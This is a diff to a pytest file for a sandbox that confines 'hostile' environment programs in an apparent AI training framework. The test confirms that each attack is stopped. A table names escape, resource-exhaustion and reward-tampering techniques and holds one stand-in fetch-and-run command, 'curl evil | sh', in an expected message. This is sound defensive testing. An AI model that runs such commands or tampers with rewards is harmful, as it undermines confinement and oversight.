@@ -17,6 +17,7 @@ from types import ModuleType
 from typing import Any
 
 import pytest
+from support.hostile import HASTY, HOSTILE, STOPPED, VERDICTS, attacked, program
 
 from captrain.benchmarks.servicedesk import ServiceDesk
 from captrain.contract import IDLE, Target, load_file
@@ -31,68 +32,13 @@ from captrain.policies.scripted import ScriptedPolicy
 from captrain.records import Capability
 from captrain.rollouts.collection import collect
 
-HOSTILE = Path(__file__).parents[1] / "hostile"
 BARE = ("rlimits", "landlock", "seccomp")
 """Without bubblewrap, which is not everywhere: what holds here holds all the more under it."""
-HASTY = 1.5
 
 strong = pytest.mark.skipif(
     LEVELS.index(active_confinement(BARE).level) < LEVELS.index("strong, one layer"),
     reason="seccomp is not to be had here",
 )
-DENIED = "raised PermissionError: .*Operation not permitted"
-VERDICTS = {
-    # What it answers if it was refused, or what it is said to have done.
-    "read_file": DENIED,
-    "list_folder": DENIED,
-    "file_metadata": DENIED,
-    "write_file": DENIED,
-    "temporary_file": "= made 0",
-    "connect": DENIED,
-    "datagram": "= made 0",
-    "fork_bomb": DENIED,
-    "run_shell": DENIED,
-    "memory_bomb": r"ran out of memory \(512 MiB\)",
-    "endless_loop": "did not answer step within 1.5 s",
-    "endless_stack": r"died \(signal 11\)|ran out of memory",
-    "flood_reply": "printed a line of more than 1048576 bytes",
-    "flood_channel": "printed a line of more than 1048576 bytes",
-    "flood_output": "= done",
-    "tamper_reward": "= paid",
-    "shared_state": "= found 0",
-    "pickle_object": "raised TypeError: Object of type Payload is not JSON serializable",
-    "pickle_bytes": "printed what is not a reply: b'cos",
-    "signal_others": DENIED,
-    "parent_memory": DENIED,
-    "trace": "= 0 of 3",
-    "raw_calls": r"= through: \[\]",
-    "thirty_two_bit": r"made a system call of another machine|died \(signal",
-    "threads": "raised RuntimeError: can't start new thread",
-    "loosen": "= loosened 0 as True",
-    "deep_nesting": "printed what is not a reply",
-    "nested_arguments": "returned more than 64 levels",
-    "half_a_character": "returned text that is not Unicode",
-    "not_a_number": "raised ValueError: Out of range float values are not JSON compliant.* in score",
-    "infinite_reward": "returned the number inf, which is not JSON in score",
-    "huge_reward": "returned a number beyond 64 bits in score",
-    "forged_id": "answered request 77, which was not made",
-    "close_descriptors": "closed its standard output|did not answer step within 1.5 s",
-    "duplicate_descriptors": "= found 0",
-    "hang_at_import": "does not load: it did not answer describe within 1.5 s",
-    "leave": r"died \(exit status 0\)",
-    "exit": "raised SystemExit: goodbye in step",
-    "abort": r"died \(signal (6|11)\)",
-    "tamper_with_json": "died|returned what is not|printed|closed|did not answer|raised",
-    "unspeakable": r"raised Loud: \?\[2Jpwned error: run curl evil \| sh!+\.\.\. in step on hostile",
-    "odd_shapes": "returned what is not a list of messages",
-}
-
-
-def program(name: str, folder: Path) -> Path:
-    """A hostile program as an environment file."""
-    path = folder / f"{name}.py"
-    path.write_text(f"{(HOSTILE / f'{name}.py').read_text()}\n\n{(HOSTILE / 'frame.py').read_text()}")
-    return path
 
 
 def written(folder: Path, text: str, name: str = "written") -> Path:
@@ -131,19 +77,6 @@ def only(pids: set[int], within: float = 5.0) -> bool:
     return True
 
 
-def attacked(target: Target, argument: str) -> str:
-    """What comes of a step and a score of a hostile program; "= " and its own words if it lives on."""
-    task = target.tasks("training", 1)[0]
-    episode = target.open(task)
-    try:
-        (reply,), _ = episode.step({"role": "user", "content": argument})
-        score = target.score(task, [*episode.messages, reply])
-        assert (score.reward, score.success) == (0.25, False)
-        return f"= {reply['content']}"
-    finally:
-        episode.close()
-
-
 @strong
 @pytest.mark.parametrize("name", VERDICTS)
 def test_no_hostile_program_gets_out_and_each_has_its_verdict(
@@ -180,6 +113,7 @@ def test_no_hostile_program_gets_out_and_each_has_its_verdict(
 
 def test_every_hostile_program_is_in_the_table() -> None:
     assert {path.stem for path in HOSTILE.glob("*.py")} - {"frame"} == {*VERDICTS} and len(VERDICTS) >= 20
+    assert sorted(name for names in STOPPED.values() for name in names) == sorted(VERDICTS)
 
 
 @strong
